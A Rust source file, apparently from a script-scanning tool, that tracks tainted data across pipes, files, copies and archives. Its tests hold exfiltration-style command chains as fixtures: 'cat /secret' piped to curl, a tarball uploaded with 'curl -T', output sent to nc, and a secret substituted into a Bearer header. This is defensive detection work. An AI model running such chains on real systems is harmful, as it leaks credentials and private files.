//! Where data goes, on paper: from a process that reads it, over pipes and files, to one that
//! takes it.
//!
//! It follows names: what a tainted process prints, the files that it writes, copies and archives
//! of these, and whoever is fed by it or names one of them. Two acts belong to one command where
//! they stand in one place of one script.

use std::collections::BTreeMap;

use lazaret_model::{Behaviour, BehaviourKind, Location};

use crate::case::base_name;

/// How often the list is gone through: a script may write before it reads, by a loop or a function.
const ROUNDS: usize = 4;
/// Tainted names beyond this many are not followed.
const NAMES: usize = 512;

/// What carries data of a kind, and the act that it came from.
pub(crate) struct Flow<'a> {
    behaviours: &'a [Behaviour],
    /// Files, by their names as far as they are known.
    files: BTreeMap<String, usize>,
    /// Programs of a command, by its place.
    programs: BTreeMap<(Option<&'a Location>, String), usize>,
    /// What a source is called with: a substitution that is not known on paper stands in the
    /// arguments of others as it is written (`$(cat $DIR/token)`).
    calls: Vec<(String, String, usize)>,
}

impl<'a> Flow<'a> {
    /// Follows what the behaviours that `is_source` names read. Only those that `counts` are looked
    /// at.
    pub(crate) fn of(
        behaviours: &'a [Behaviour],
        counts: impl Fn(&Behaviour) -> bool,
        is_source: impl Fn(&Behaviour) -> bool,
    ) -> Self {
        let mut flow =
            Self { behaviours, files: BTreeMap::new(), programs: BTreeMap::new(), calls: Vec::new() };
        for (at, source) in
            behaviours.iter().enumerate().filter(|(_, b)| counts(b) && is_source(b)).take(NAMES)
        {
            if let BehaviourKind::Process { argv, .. } = &source.kind
                && let [program, .., last] = argv.as_slice()
            {
                flow.calls.push((format!("$({} ", base_name(program)), base_name(last).to_owned(), at));
            }
        }
        for _ in 0..ROUNDS {
            let before = flow.size();
            for (at, behaviour) in behaviours.iter().enumerate().filter(|(_, b)| counts(b)) {
                let origin = if is_source(behaviour) { Some(at) } else { flow.origin(at) };
                if let Some(origin) = origin {
                    flow.taint(behaviour, origin);
                }
            }
            if flow.size() == before || flow.size() > NAMES {
                break;
            }
        }
        flow
    }

    /// The act whose data reaches behaviour `at`, where one does.
    pub(crate) fn origin(&self, at: usize) -> Option<usize> {
        let behaviour = self.behaviours.get(at)?;
        let place = behaviour.because.first();
        let program = |name: &str| self.programs.get(&(place, base_name(name).to_owned())).copied();
        match &behaviour.kind {
            BehaviourKind::Process { argv, fed_by, .. } => {
                let fed = fed_by.iter().find_map(|name| program(name));
                fed.or_else(|| argv.iter().skip(1).find_map(|argument| self.named_in(argument)))
            }
            BehaviourKind::File { by, .. } => program(by),
            BehaviourKind::Network { .. } => None,
        }
    }

    fn size(&self) -> usize {
        self.files.len() + self.programs.len()
    }

    fn taint(&mut self, behaviour: &'a Behaviour, origin: usize) {
        match &behaviour.kind {
            BehaviourKind::Process { argv, .. } => {
                let Some(program) = argv.first() else { return };
                let key = (behaviour.because.first(), base_name(program).to_owned());
                self.programs.entry(key).or_insert(origin);
                for file in outputs(base_name(program), &argv[1..]) {
                    self.files.entry(file).or_insert(origin);
                }
            }
            BehaviourKind::File { path, .. } => {
                self.files.entry(path.clone()).or_insert(origin);
            }
            BehaviourKind::Network { .. } => {}
        }
    }

    /// The source of a tainted file, or of one below a folder, that an argument names.
    fn named_in(&self, argument: &str) -> Option<usize> {
        let call = self.calls.iter().find(|(call, operand, _)| {
            let inside =
                argument.split_once(call.as_str()).map(|(_, rest)| rest.split(')').next().unwrap_or(rest));
            inside.is_some_and(|inside| !operand.is_empty() && inside.ends_with(operand.as_str()))
        });
        if let Some((_, _, origin)) = call {
            return Some(*origin);
        }
        let folder = argument.trim_end_matches("/.").trim_end_matches('/');
        let names = |file: &str| {
            let long = file.len() >= 4 && argument.contains(file);
            long || folder.len() >= 5 && file.strip_prefix(folder).is_some_and(|rest| rest.starts_with('/'))
        };
        self.files.iter().find(|(file, _)| names(file)).map(|(_, origin)| *origin)
    }
}

/// Files that a program writes, by its arguments.
fn outputs(program: &str, arguments: &[String]) -> Vec<String> {
    let operands = || arguments.iter().filter(|a| !a.starts_with('-'));
    let mut files = Vec::new();
    for (at, argument) in arguments.iter().enumerate() {
        let next = || arguments.get(at + 1).cloned();
        match argument.as_str() {
            "-o" | "--output" | "-O" | "--output-document" | "-out" => files.extend(next()),
            other => {
                let given = ["--output=", "--output-document=", "of="];
                files.extend(given.iter().find_map(|g| other.strip_prefix(g)).map(str::to_owned));
            }
        }
    }
    match program {
        "cp" | "mv" | "install" | "ln" => files.extend(operands().next_back().cloned()),
        "tee" => files.extend(operands().cloned()),
        "zip" | "7z" | "7za" => files.extend(operands().next().cloned()),
        "gzip" | "xz" | "bzip2" => files.extend(operands().map(|file| format!("{file}.gz"))),
        "tar" | "bsdtar" => {
            let ends_in_f = |a: &str| a.ends_with('f') && !a.starts_with("--") && !a.contains('/');
            let at = arguments.iter().position(|a| ends_in_f(a) || a == "--file");
            files.extend(at.and_then(|at| arguments.get(at + 1)).cloned());
        }
        _ => {}
    }
    // A stream is no file.
    files.retain(|file| !matches!(file.as_str(), "-" | "." | "/dev/stdout" | "/dev/null" | ""));
    files
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use lazaret_model::{Certainty, EntryPath, FileOp, Phase};

    use super::*;

    fn at(line: u32, kind: BehaviourKind) -> Behaviour {
        let place = Location::File {
            layer: 0,
            path: EntryPath::from("run.sh"),
            inside: Vec::new(),
            line: Some(line),
            offset: None,
        };
        Behaviour { kind, phase: Phase::Start, certainty: Certainty::Will, because: vec![place] }
    }

    fn process(line: u32, command: &str, fed_by: &[&str]) -> Behaviour {
        let own = |words: &[&str]| words.iter().map(|w| (*w).to_owned()).collect();
        let kind = BehaviourKind::Process {
            argv: command.split(' ').map(str::to_owned).collect(),
            image: None,
            parent: None,
            fed_by: own(fed_by),
            stdin: None,
            downloaded: None,
        };
        at(line, kind)
    }

    fn write(line: u32, path: &str, by: &str) -> Behaviour {
        at(line, BehaviourKind::File { op: FileOp::Write, path: path.into(), content: None, by: by.into() })
    }

    fn reaches(behaviours: &[Behaviour], last: usize) -> bool {
        let secret = |b: &Behaviour| matches!(&b.kind, BehaviourKind::Process { argv, .. } if argv.contains(&"/secret".to_owned()));
        Flow::of(behaviours, |_| true, secret).origin(last).is_some()
    }

    #[test]
    fn data_is_followed_over_pipes_files_copies_and_archives() {
        for (acts, last) in [
            (vec![process(1, "cat /secret", &[]), process(1, "curl -d @- x", &["cat"])], 1),
            // The redirection is told before or after the program.
            (
                vec![
                    write(1, "/tmp/c", "cat"),
                    process(1, "cat /secret", &[]),
                    process(2, "curl -F f=@/tmp/c x", &[]),
                ],
                2,
            ),
            (
                vec![
                    process(1, "cp /secret $(mktemp -d)/a", &[]),
                    process(2, "tar czf /tmp/all.tgz -C $(mktemp -d) .", &[]),
                    process(3, "curl -T /tmp/all.tgz x", &[]),
                ],
                2,
            ),
            (
                vec![
                    process(1, "curl -o /tmp/n /secret", &[]),
                    process(2, "openssl enc -in /tmp/n", &[]),
                    process(2, "nc h 9", &["openssl"]),
                ],
                2,
            ),
        ] {
            assert!(reaches(&acts, last), "{acts:?}");
        }
    }

    #[test]
    fn a_substitution_that_is_not_known_is_the_source_that_it_calls() {
        let mut sender = process(2, "curl -H x", &[]);
        let BehaviourKind::Process { argv, .. } = &mut sender.kind else { panic!("a process") };
        argv[2] = "Authorization: Bearer $(cat $DIR/secret)".to_owned();
        assert!(reaches(&[process(1, "cat /secret", &[]), sender.clone()], 1));
        let BehaviourKind::Process { argv, .. } = &mut sender.kind else { panic!("a process") };
        argv[2] = "X-Host: $(cat /etc/hostname)".to_owned();
        assert!(!reaches(&[process(1, "cat /secret", &[]), sender], 1));
    }

    #[test]
    fn what_only_stands_beside_it_is_not_reached() {
        for (acts, last) in [
            (vec![process(1, "cat /secret", &[]), process(2, "curl -d @/tmp/metrics x", &[])], 1),
            (vec![process(1, "cat /secret", &[]), process(2, "curl -d @- x", &["cat"])], 1),
            (vec![process(1, "curl -o /tmp/n /secret", &[]), process(2, "curl -F f=@/tmp/other x", &[])], 1),
        ] {
            assert!(!reaches(&acts, last), "{acts:?}");
        }
    }
}
